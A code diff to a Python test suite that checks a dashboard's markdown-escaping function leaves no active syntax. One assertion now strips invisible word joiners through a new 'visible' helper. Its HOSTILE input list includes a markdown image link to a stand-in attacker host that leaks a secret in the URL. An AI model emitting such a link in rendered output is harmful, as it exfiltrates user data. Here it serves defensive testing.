@@ -11,6 +11,7 @@ from dashboard import charts, examples, explore, ui
 from dashboard.catalog import get_catalog
 from dashboard.config import parse_settings
 from dashboard.store import Widget
+from dashboard.text import visible
 
 HOSTILE = [
     "![x](https://evil.example/leak?d=secret)",
@@ -30,8 +31,8 @@ def test_escape_markdown_leaves_no_active_syntax(text: str) -> None:
     for match in re.finditer(r"[\[\]()<>!*_`#:$]", escaped):
         assert escaped[match.start() - 1] == "\\", (escaped, match.group())
     assert "\n" not in escaped
-    # Removing the escapes gives back the (flattened) original text.
-    assert re.sub(r"\\(.)", r"\1", escaped) == " ".join(text.split())
+    # Removing the escapes (and invisible word joiners) gives back the flattened text.
+    assert visible(escaped) == " ".join(text.split())
 
 
 def test_escape_markdown_truncates() -> None:
